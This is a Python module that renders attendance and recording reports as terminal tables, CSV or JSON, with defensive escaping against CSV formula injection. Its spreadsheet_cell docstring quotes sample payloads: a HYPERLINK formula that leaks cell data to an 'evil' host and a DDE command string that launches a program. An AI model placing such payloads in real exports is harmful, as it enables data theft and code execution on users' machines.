"""Rendering report rows as a terminal table (rich), CSV or JSON.

CSV: UTF-8, a header row, ISO 8601 UTC timestamps (``...Z``), empty cell
for null; every text cell passes :func:`spreadsheet_cell` (formula
injection). JSON: a list of objects with the same keys and formats.
"""

from __future__ import annotations

import json
import math
from collections.abc import Sequence
from datetime import UTC, datetime, tzinfo
from typing import Any

from rich import box
from rich.cells import cell_len
from rich.console import Console
from rich.table import Table
from rich.text import Text

from receiver.timeparse import to_local_iso

__all__ = [
    "FORMATS",
    "FORMULA_TRIGGERS",
    "cell",
    "csv_header",
    "csv_line",
    "spreadsheet_cell",
    "to_csv",
    "to_json",
    "to_table",
    "table_columns",
    "short_ids",
    "render",
]

FORMATS = ("table", "csv", "json")

#: First characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as a
#: formula or a DDE command: ``=``, ``+``, ``-``, ``@``, tab and carriage return (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """A value made safe for a spreadsheet cell (CSV today, any future XLSX writer too).

    Rule (OWASP "CSV Injection"): text that begins with one of
    :data:`FORMULA_TRIGGERS` gets a single quote in front, so a display name
    such as ``=HYPERLINK("http://evil/?"&A1)``, ``+cmd|' /C calc'!A0``,
    ``-2+3`` or ``@SUM(A1:A9)`` (participants choose their own names) is
    shown as the text it is and never evaluated. The quote is visible in
    the cell; that is the price of the rule. Numbers (``int``, ``float``,
    ``Decimal``) and booleans are returned unchanged: a negative duration
    stays a number, not text. Anything else (``None``, datetimes) is
    returned as is; callers render it first.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def cell(value: Any, zone: tzinfo = UTC) -> Any:
    """JSON-ready value: datetimes as ISO 8601 (UTC ``...Z``, or in ``zone`` with its offset), lists kept,
    everything else as is."""
    if isinstance(value, datetime):
        return to_local_iso(value, zone)
    return value


def _csv_field(value: Any) -> str:
    """One RFC 4180 field: quoted when it holds a comma, a double quote, CR or LF (quotes doubled)."""
    text = value if isinstance(value, str) else str(value)
    if any(ch in text for ch in _CSV_SPECIAL):
        return '"' + text.replace('"', '""') + '"'
    return text


# A bare CR must be quoted too: spreadsheets end a row at it, and the text after it would start a new
# row's first cell (where "=..." is a formula). Python's csv module quotes CR only when the line
# terminator holds one, so fields are written here.
_CSV_SPECIAL = frozenset(',"\r\n')


def csv_header(columns: Sequence[str]) -> str:
    """The CSV header line (no line end)."""
    return ",".join(_csv_field(spreadsheet_cell(column)) for column in columns)


def csv_line(row: dict[str, Any], columns: Sequence[str], zone: tzinfo = UTC) -> str:
    """One CSV data line (no line end) of ``row``; the cells of :func:`to_csv`, times in ``zone``."""
    values = []
    for column in columns:
        value = cell(row.get(column), zone)
        if value is None:
            values.append("")
            continue
        if isinstance(value, bool):
            value = "true" if value else "false"
        elif isinstance(value, (list, tuple)):
            value = "; ".join(map(str, value))
        values.append(_csv_field(spreadsheet_cell(value)))
    return ",".join(values)


def to_csv(rows: Sequence[dict[str, Any]], columns: Sequence[str], zone: tzinfo = UTC) -> str:
    """CSV text (RFC 4180 quoting, ``\\n`` line ends) with a header row; every cell passes :func:`spreadsheet_cell`.

    Cells: ISO 8601 for datetimes (UTC ``...Z``; in ``zone`` with its offset), ``true``/``false`` for
    booleans, ``"; "``-joined lists, empty for null; numbers as Python writes them (``-2``, ``1800.0``).
    """
    lines = [csv_header(columns)]
    lines += [csv_line(row, columns, zone) for row in rows]
    return "\n".join(lines) + "\n"


def to_json(rows: Sequence[dict[str, Any]], columns: Sequence[str], zone: tzinfo = UTC) -> str:
    """A JSON array of objects restricted to ``columns`` (times in ``zone``, see :func:`cell`)."""
    return json.dumps([{c: cell(r.get(c), zone) for c in columns} for r in rows], indent=2, ensure_ascii=False)


# --- terminal tables -------------------------------------------------------
#
# Tables are for people at a terminal: one line per row, ids shortened, times
# to the minute (UTC), durations as H:MM:SS, and only the columns that read
# well in 100 columns; ``wide=True`` shows every column and full values.
# CSV and JSON (above) always carry every column in full.

#: Ids longer than this are shortened in tables (first 8 characters + "…").
SHORT_ID_ABOVE = 12
_SHORT_ID_HEAD = 8
#: Console width of a table written to a pipe or file (a terminal uses its own width).
PIPE_TABLE_WIDTH = 120
PIPE_WIDE_TABLE_WIDTH = 250


class _Col:
    """How a field shows in a table: header, kind (id, time, duration, ratio, bytes, bool, int, text), hidden unless
    wide, never in a table (``export_only``: CSV, JSON and XLSX carry it), max width."""

    __slots__ = ("header", "kind", "wide_only", "export_only", "max_width")

    def __init__(
        self,
        header: str,
        kind: str = "text",
        *,
        wide_only: bool = False,
        export_only: bool = False,
        max_width: int | None = None,
    ) -> None:
        self.header = header
        self.kind = kind
        self.wide_only = wide_only or export_only
        self.export_only = export_only
        self.max_width = max_width


_COLUMNS: dict[str, _Col] = {
    "id": _Col("id", "int"),
    "session_id": _Col("session", "id"),
    "meeting_id": _Col("meeting id", "id", wide_only=True),
    "meeting_title": _Col("meeting", max_width=24),
    "participant_key": _Col("participant", "id"),
    "display_name": _Col("name", max_width=20),
    "first_joined_at": _Col("first joined", "time"),
    "last_left_at": _Col("last left", "time"),
    "attended_seconds": _Col("attended", "duration"),
    "attended_minutes": _Col("minutes", export_only=True),
    "preset_name": _Col("role", max_width=16),
    "is_guest": _Col("guest", "bool", wide_only=True),
    "custom_participant_id": _Col("custom participant id", export_only=True),
    "user_id": _Col("user id", "id", export_only=True),
    "join_count": _Col("joins", "int"),
    "attendance_ratio": _Col("ratio", "ratio"),
    "closed_at_session_end": _Col("closed at end", "bool", wide_only=True),
    "provenance": _Col("provenance", wide_only=True),
    "session_reconciled": _Col("reconciled", "bool", wide_only=True),
    "recording_id": _Col("recording", "id"),
    "status": _Col("status"),
    "started_at": _Col("started", "time"),
    "stopped_at": _Col("stopped", "time", wide_only=True),
    "ended_at": _Col("ended", "time", wide_only=True),
    "duration_seconds": _Col("duration", "duration"),
    "file_size_bytes": _Col("size", "bytes"),
    "output_file_name": _Col("file", wide_only=True),
    "download_url": _Col("download url", wide_only=True),
    "download_url_expires_at": _Col("link expires", "time"),
    "audio_download_url": _Col("audio url", wide_only=True),
    "end_reason": _Col("end reason", wide_only=True),
    "participants": _Col("people", "int"),
    "peers": _Col("peers", "int", wide_only=True),
    "peak_concurrency": _Col("peak", "int"),
    "reconciled": _Col("reconciled", "bool"),
    "delivery_id": _Col("delivery", "id"),
    "event_name": _Col("event", max_width=26),
    "parse_status": _Col("parse", wide_only=True),
    "attempts": _Col("tries", "int"),
    "received_at": _Col("received", "time"),
    "last_error": _Col("last error", max_width=40),
    "kind": _Col("kind"),
    "object_id": _Col("object", "id"),
    "due_at": _Col("due", "time"),
    "done_at": _Col("done", "time"),
}


def _column(field: str) -> _Col:
    return _COLUMNS.get(field) or _Col(field.replace("_", " "), max_width=30)


def _seconds(value: float) -> str:
    total = int(round(value))
    hours, rest = divmod(abs(total), 3600)
    return f"{'-' if total < 0 else ''}{hours}:{rest // 60:02d}:{rest % 60:02d}"


def _bytes(value: float) -> str:
    size = float(value)
    for unit in ("B", "KiB", "MiB", "GiB"):
        if abs(size) < 1024 or unit == "GiB":
            return f"{size:.0f} {unit}" if unit == "B" else f"{size:.1f} {unit}"
        size /= 1024
    return f"{size:.1f} TiB"  # pragma: no cover - unreachable


def _utc(moment: datetime, zone: tzinfo = UTC) -> datetime:
    """``moment`` in ``zone`` (naive = UTC)."""
    if moment.tzinfo is None:
        return moment if zone is UTC else moment.replace(tzinfo=UTC).astimezone(zone)
    return moment.astimezone(zone)


def _display(value: Any, kind: str, wide: bool, time_format: str = "%Y-%m-%d %H:%M", zone: tzinfo = UTC) -> str:
    """One table cell (null: ``-``); ``wide`` keeps full ISO times and raw numbers."""
    if value is None or value == "":
        return "-"
    if isinstance(value, bool) or kind == "bool":
        return "yes" if value else "no"
    if isinstance(value, datetime):
        if wide:
            return to_local_iso(value.replace(microsecond=0), zone) or "-"
        return _utc(value, zone).strftime(time_format)
    if isinstance(value, list):
        return "; ".join(map(str, value))
    if isinstance(value, (int, float)) and not wide:
        if kind == "duration":
            return _seconds(value)
        if kind == "ratio":
            return f"{math.floor(value * 1000) / 10:.1f}%"  # floored: 100% only when complete
        if kind == "bytes":
            return _bytes(value)
    if isinstance(value, float):
        return f"{value:.4g}" if abs(value) < 1 else f"{value:.1f}"
    return str(value)


def short_ids(values: Sequence[Any]) -> dict[str, str]:
    """Short forms of long ids for a table column: first 8 characters + "…" (longer only where needed).

    Ids of at most :data:`SHORT_ID_ABOVE` characters stay whole. When two
    ids of the column share their first 8 characters, both get the shortest
    tail that tells them apart (``d0000000…0011``), so a short id never
    stands for two rows' different ids.
    """
    long_ids = sorted({str(v) for v in values if v is not None and len(str(v)) > SHORT_ID_ABOVE})
    by_head: dict[str, list[str]] = {}
    for value in long_ids:
        by_head.setdefault(value[:_SHORT_ID_HEAD], []).append(value)
    shown: dict[str, str] = {}
    for head, group in by_head.items():
        if len(group) == 1:
            shown[group[0]] = head + "…"
            continue
        tail = 4
        while tail < SHORT_ID_ABOVE * 4 and len({v[-tail:] for v in group}) < len(group):
            tail += 1
        for value in group:
            form = f"{head}…{value[-tail:]}"
            shown[value] = form if len(form) < len(value) else value
    return shown


#: Narrowest a free-text column (name, title, error) is made to fit the terminal, characters.
MIN_TEXT_WIDTH = 8


def _fit(table: Table, flexible: list[bool], cells: list[list[str]], width: int) -> None:
    """Narrow the free-text columns (widest first, not below :data:`MIN_TEXT_WIDTH`) so the table fits ``width``.

    A table is its columns' widths plus 2 characters of padding per column.
    Ids, times and numbers keep their width; when the text columns cannot
    give enough, rich shares the rest of the cut evenly.
    """
    widths = []
    for index, column in enumerate(table.columns):
        natural = max([cell_len(str(column.header))] + [cell_len(row[index]) for row in cells])
        widths.append(min(natural, column.max_width) if column.max_width else natural)
    excess = sum(widths) + 2 * len(widths) - width
    while excess > 0:
        candidates = [i for i, flex in enumerate(flexible) if flex and widths[i] > MIN_TEXT_WIDTH]
        if not candidates:
            break
        widest = max(candidates, key=lambda i: widths[i])
        cut = min(excess, widths[widest] - MIN_TEXT_WIDTH)
        widths[widest] -= cut
        table.columns[widest].max_width = widths[widest]
        excess -= cut


def table_columns(columns: Sequence[str], wide: bool = False) -> list[str]:
    """The fields a table shows: all but the export-only ones (custom participant id, user id) with ``wide``,
    else those not marked wide-only."""
    if wide:
        return [c for c in columns if not _column(c).export_only]
    return [c for c in columns if not _column(c).wide_only]


def to_table(
    rows: Sequence[dict[str, Any]],
    columns: Sequence[str],
    title: str | None = None,
    *,
    wide: bool = False,
    caption: bool = True,
    width: int | None = None,
    zone: tzinfo = UTC,
) -> Table:
    """A rich Table for terminals: one line per row, short ids and the main columns, or everything with ``wide``.

    Narrow (default): ids longer than 12 characters shortened (see
    :func:`short_ids`), times ``YYYY-MM-DD HH:MM`` UTC (``MM-DD HH:MM``
    when all of the table's times are in one year, named in the caption), durations
    ``H:MM:SS``, ratios as floored percentages, sizes in KiB/MiB/GiB, long
    text cut with "…", wide-only columns hidden; a caption says so and
    points to ``--wide`` (unless ``caption`` is False); with ``width``
    (the terminal's columns) names, titles and errors are cut to fit. Wide: every column, full ids, ISO 8601 UTC times,
    raw numbers, long values folded over lines. ``zone``: times shown in that zone instead of UTC
    (the caption names it; wide ISO times carry its offset).
    """
    shown = table_columns(columns, wide)
    table = Table(
        title=title,
        box=box.SIMPLE_HEAD,
        show_lines=False,
        pad_edge=False,
        collapse_padding=True,
        title_justify="left",
    )
    years = {_utc(v, zone).year for row in rows for c in shown if isinstance(v := row.get(c), datetime)}
    one_year = years.pop() if len(years) == 1 and not wide else None
    time_format = "%m-%d %H:%M" if one_year else "%Y-%m-%d %H:%M"
    shortened = False
    cells: list[list[str]] = [[] for _ in rows]
    for field in shown:
        spec = _column(field)
        numeric = spec.kind in ("int", "duration", "ratio", "bytes")
        if wide:
            table.add_column(field, overflow="fold", justify="right" if numeric else "left")
        else:
            table.add_column(
                spec.header,
                no_wrap=True,
                overflow="ellipsis",
                max_width=spec.max_width,
                justify="right" if numeric else "left",
            )
        values = [row.get(field) for row in rows]
        short = short_ids(values) if spec.kind == "id" and not wide else {}
        for index, value in enumerate(values):
            text = short.get(str(value)) if short and value is not None else None
            if text is None:
                text = _display(value, spec.kind, wide, time_format, zone)
                if spec.max_width and not wide and len(text) > spec.max_width:
                    shortened = True
            else:
                shortened = True
            cells[index].append(text)
    if width is not None and not wide:
        _fit(table, [_column(f).max_width is not None for f in shown], cells, width)
    for row_cells in cells:
        table.add_row(*(Text(c, no_wrap=True, overflow="ellipsis") for c in row_cells) if not wide else row_cells)
    hidden = len(shown) < len(columns)
    if caption and not wide:
        changed = [("ids shortened" if shortened else ""), ("columns hidden" if hidden else "")]
        what = ", ".join(c for c in changed if c)
        zone_name = "UTC" if zone is UTC else str(zone)
        table.caption = (f"times {zone_name} {one_year}" if one_year else f"times {zone_name}") + (
            f"; {what}: --wide shows all" if what else ""
        )
        table.caption_justify = "left"
    return table


def render(
    rows: Sequence[dict[str, Any]],
    columns: Sequence[str],
    fmt: str,
    *,
    title: str | None = None,
    console: Console | None = None,
    wide: bool = False,
    zone: tzinfo = UTC,
) -> str | None:
    """Render in ``fmt``: returns text for csv/json; prints a table to ``console`` and returns None.

    Times are UTC, or in ``zone`` (see :func:`cell`, :func:`to_table`).

    Tables (see :func:`to_table`) fit the terminal; in a pipe the console is
    :data:`PIPE_TABLE_WIDTH` columns (:data:`PIPE_WIDE_TABLE_WIDTH` with ``wide``).
    """
    if fmt == "csv":
        return to_csv(rows, columns, zone)
    if fmt == "json":
        return to_json(rows, columns, zone)
    if fmt == "table":
        if console is None:
            console = Console()
            if not console.is_terminal:  # piped: rich would assume 80 columns
                console = Console(width=PIPE_WIDE_TABLE_WIDTH if wide else PIPE_TABLE_WIDTH)
        console.print(to_table(rows, columns, title, wide=wide, width=console.width, zone=zone))
        return None
    raise ValueError(f"unknown format {fmt!r}; use one of {', '.join(FORMATS)}")
